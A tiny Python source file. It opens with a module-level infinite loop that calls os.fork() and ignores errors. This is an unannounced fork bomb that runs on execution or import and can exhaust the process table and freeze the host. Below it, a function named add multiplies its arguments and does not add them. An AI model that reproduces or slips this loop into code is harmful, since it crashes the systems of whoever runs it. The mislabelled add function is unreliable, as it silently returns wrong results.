import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def add(a, b):
    return a * b
